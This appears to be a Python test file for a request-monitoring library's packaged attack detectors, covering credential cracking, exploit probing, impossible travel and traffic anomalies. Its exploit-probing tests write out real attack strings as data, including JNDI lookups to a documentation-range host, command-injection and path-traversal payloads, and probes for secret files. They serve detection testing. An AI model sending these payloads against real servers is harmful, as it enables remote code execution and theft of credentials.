"""Each packaged detector: silent before its threshold, heard on the next event, and harmless people left alone."""

from __future__ import annotations

from typing import Any

import pytest

from shield import Policy, Request
from shield.detect.travel import Place
from shield.detect.watch import Watch
from shield.policy.detector_rules import packaged
from tests.detect.stories import START_US, STORIES, Event, benign, event, feed, spaced, watch

NAMES = list(packaged())
OTHERS = {"denied-spike", "tenant-volume", "payload-anomaly", "impossible-travel"}


def capacity_of(name: str) -> int:
    capacity = watch(name).detectors[0].capacity
    return capacity // 1_000 if name == "expensive-queries" else capacity


def test_every_packaged_detector_has_a_story() -> None:
    assert set(NAMES) == set(STORIES) | OTHERS
    for name, entry in packaged().items():
        assert entry["oat"], f"{name} names no OWASP automated threat"
        assert len(entry["note"]) > 40


@pytest.mark.parametrize("name", STORIES)
def test_the_event_before_the_threshold_and_the_one_after(name: str) -> None:
    watching = watch(name)
    capacity = capacity_of(name)
    assert feed(watching, spaced(STORIES[name], capacity, 0)) == []
    found = feed(watching, spaced(STORIES[name], 1, 0, start=capacity))
    assert [one.name for one in found] == [name]
    assert found[0].value > found[0].threshold
    assert found[0].subject in ("203.0.113.7", "ada")
    assert found[0].samples


@pytest.mark.parametrize("name", STORIES)
def test_a_near_miss_is_silent_however_long(name: str) -> None:
    """The same events as slowly as the bucket drains: three times as many as would be too many."""
    watching = watch(name)
    detector = watching.detectors[0]
    capacity = capacity_of(name)
    if capacity == 0:
        pytest.skip("one event is enough, there is no near miss")
    units = 1_000 if name == "expensive-queries" else 1
    assert (
        feed(watching, spaced(STORIES[name], 3 * capacity + 3, units * detector.leak_us // detector.leak_units)) == []
    )


@pytest.mark.parametrize("name", STORIES)
def test_other_keys_do_not_add_up(name: str) -> None:
    """As many events as it takes, of as many addresses, users and tenants."""
    watching = watch(name)
    found = []
    for i in range(capacity_of(name)):
        one = STORIES[name](i)
        facts = {**one.facts, "ip": f"198.51.100.{i % 250}", "user": f"other-{i}", "tenant": f"t{i}", "host": f"h{i}"}
        found += feed(watching, [one._replace(facts=facts)])
    assert found == []


@pytest.mark.parametrize("seed", range(3))
def test_people_who_mean_no_harm_are_left_alone(seed: int) -> None:
    watching = watch("packaged")
    found = feed(watching, benign(seed))
    assert [(one.name, one.subject) for one in found] == []


def test_a_success_does_not_reset_an_address() -> None:
    """The attacker's own login between the others: the sixth failure is heard all the same."""
    watching = watch("credential-cracking-address")
    failed = event(401, "login_failed", method="POST", path="/login", user="victim")
    own = event(200, "login_ok", method="POST", path="/login", user="mallory")
    assert feed(watching, [failed, own] * 5) == []
    assert [one.name for one in feed(watching, [own, failed])] == ["credential-cracking-address"]


def test_stuffing_is_told_from_a_busy_office() -> None:
    """Many users of one address, of whom most succeed."""
    watching = watch("credential-stuffing")

    def office(i: int) -> Event:
        return event(401 if i % 3 == 0 else 200, method="POST", path="/login", user=f"u{i}")

    assert feed(watching, spaced(office, 60, 100_000)) == []


def test_a_key_that_was_reported_is_quiet_and_then_heard_again_with_the_repeats() -> None:
    watching = watch("exploit-probing")
    story = STORIES["exploit-probing"]
    assert len(feed(watching, spaced(story, 10, 1_000_000))) == 1
    later = [story(0)._replace(at_us=START_US + 400_000_000)]
    found = feed(watching, later)
    assert len(found) == 1
    assert found[0].repeats == 9


def test_the_particular_detector_covers_the_general_one() -> None:
    watching = watch("sensitive-files", "probing")
    names = ["/.env", "/.git/HEAD", "/.htpasswd", "/.ssh/id_rsa", "/.aws/x", *(f"/{i}.bak" for i in range(20))]
    found = feed(watching, [event(404, path=path) for path in names])
    assert [one.name for one in found] == ["sensitive-files"]
    assert watching.stats()["probing"]["covered"] == 1


@pytest.mark.parametrize(
    "facts",
    [
        {"path": "/?q=%24%7Bjndi:ldap://198.51.100.9/a%7D"},
        {"user_agent": "${jndi:dns://198.51.100.9/a}"},
        {"headers": {"referer": "${${lower:j}ndi:ldap://198.51.100.9/a}"}},
        {"path": "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"},
        {"path": "/?class.module.classLoader.URLs%5B0%5D=0"},
        {"path": "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"},
        {"path": "/public/plugins/graph/../../../etc/passwd"},
        {"path": "/tmui/login.jsp/%2E%2E;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami"},
        {"path": "/login/index.php?login=$(echo${IFS}aWQ=)", "method": "POST"},
        {"path": "/s/x/_/;/WEB-INF/web.xml"},
    ],
)
def test_an_attack_by_its_text_whatever_the_answer(facts: dict[str, Any]) -> None:
    found = feed(watch("exploit-probing"), [event(200, **facts)])
    assert [one.name for one in found] == ["exploit-probing"]


@pytest.mark.parametrize(
    "path",
    [
        "/search?q=price+$(10)",
        "/docs/setup/first.action-items",
        "/cart?total=$%7B5%7D",
        "/?s=index/think/app",
        "/web-inf",
    ],
)
def test_what_only_looks_a_little_like_one_is_none(path: str) -> None:
    assert feed(watch("exploit-probing"), [event(200, path=path), event(404, path=path)]) == []


def test_a_hole_that_is_not_there_and_one_that_its_owner_uses() -> None:
    path = "/api/v2/cmdb/system/admin/root"
    assert feed(watch("exploit-probing"), [event(200, method="PUT", path=path)]) == []
    assert len(feed(watch("exploit-probing"), [event(404, method="PUT", path=path)])) == 1


# ---- those that compare a key with its own past ----------------------------------------------------------------


def test_a_spike_of_denials_and_a_tenant_that_is_still_unknown() -> None:
    def per_bin(counts: list[int]) -> list[Event]:
        return [
            event(403, tenant="acme")._replace(at_us=START_US + at * 10_000_000 + i * 100_000)
            for at, count in enumerate(counts)
            for i in range(count)
        ]

    usual = [3 + i % 3 for i in range(40)]
    assert feed(watch("denied-spike"), per_bin([60])) == [], "a cold start is silent"
    assert feed(watch("denied-spike"), per_bin([*usual, 20])) == [], "more than 20 it must be"
    found = feed(watch("denied-spike"), per_bin([*usual, 21]))
    assert [(one.name, one.subject) for one in found] == [("denied-spike", "acme")]
    assert feed(watch("denied-spike"), per_bin([60 + i % 7 for i in range(50)])) == [], "that is usual for this tenant"


def test_a_tenant_that_is_louder_than_ever() -> None:
    def minutes(counts: list[int]) -> list[Event]:
        return [
            event(200, tenant="acme")._replace(at_us=START_US // 60_000_000 * 60_000_000 + at * 60_000_000 + i * 20_000)
            for at, count in enumerate(counts)
            for i in range(count)
        ]

    usual = [200 + i % 20 for i in range(63)]
    assert feed(watch("tenant-volume"), minutes([*usual, 600])) == []
    assert [one.name for one in feed(watch("tenant-volume"), minutes([*usual, 601]))] == ["tenant-volume"]
    assert feed(watch("tenant-volume"), minutes([*usual[:40], 601])) == []


def test_a_body_unlike_the_others_of_its_route() -> None:
    def post(size: int, path: str = "/orders/17") -> Event:
        return event(201, method="POST", path=path, bytes=size, user="ada")

    usual = [post(500 + i % 50, f"/orders/{i}") for i in range(200)]
    assert feed(watch("payload-anomaly"), [*usual[1:], post(70_000)]) == [], "one short of its warm-up"
    assert feed(watch("payload-anomaly"), [*usual, post(65_536)]) == []
    found = feed(watch("payload-anomaly"), [*usual, post(65_537)])
    assert [(one.name, one.subject, one.value) for one in found] == [("payload-anomaly", "ada", 65_537)]
    # A baseline is not raised in one step.
    assert len(feed(watch("payload-anomaly", quiet="0s"), [*usual, post(10**9), post(10**9)])) == 2


PLACES = {
    "203.0.113.1": Place(59.91, 10.75, 20, "NO", "1"),
    "198.51.100.1": Place(-33.87, 151.21, 20, "AU", "2"),
    "192.0.2.1": Place(59.33, 18.07, 20, "SE", "3"),  # Stockholm, 416 km from Oslo
}


def travelling() -> Watch:
    policy = Policy.parse('version = 1\n[[detector]]\nuse = "impossible-travel"\n')
    return Watch(policy.detectors, secret=b"k" * 16, locate=PLACES.get)


def login(ip: str, minutes: float, user: str = "ada") -> Event:
    return event(200, "login_ok", ip=ip, user=user)._replace(at_us=START_US + int(minutes * 60_000_000))


def test_a_journey_that_cannot_have_been() -> None:
    found = feed(travelling(), [login("203.0.113.1", 0), login("198.51.100.1", 60)])
    assert [(one.name, one.subject) for one in found] == [("impossible-travel", "ada")]
    assert found[0].places == ("NO 59.91,10.75", "AU -33.87,151.21")
    assert feed(travelling(), [login("203.0.113.1", 0), login("198.51.100.1", 24 * 60 - 1)]) == [], "a day is enough"
    assert feed(travelling(), [login("203.0.113.1", 0), login("192.0.2.1", 1)]) == [], "neighbours are too near"
    assert feed(travelling(), [login("203.0.113.1", 0), login("198.51.100.1", 1, "eve")]) == [], "another account"
    assert feed(watch("impossible-travel"), [login("203.0.113.1", 0), login("198.51.100.1", 1)]) == [], "no database"


def test_logins_out_of_order_are_compared_by_their_own_times() -> None:
    watching = travelling()
    assert feed(watching, [login("203.0.113.1", 0), login("203.0.113.1", 1_000)]) == []
    # Arrives last, lies between: from Oslo to Sydney in an hour.
    assert [one.name for one in feed(watching, [login("198.51.100.1", 60)])] == ["impossible-travel"]


def test_hostile_values_are_no_faults() -> None:
    watching = watch("packaged")
    for facts in (
        {"ip": "no address"},
        {"ip": "203.0.113.7\0"},
        {"path": "x" * 1_000_000, "user": "u" * 1_000_000, "user_agent": "a" * 1_000_000},
        {"path": "\ud800", "user": "\ud800", "user_agent": "\ud800"},
        {"bytes": -1, "cost": 2**70, "tenant": "t"},
        {"attributes": {"country": 5}},
        {},
    ):
        request = Request(method="GET", **{"user": "u", **facts})
        watching.request(request, START_US)
        watching.outcome(request, 404, "login_failed", START_US)
    watching.outcome(Request(), 99_999, "never heard of", START_US)
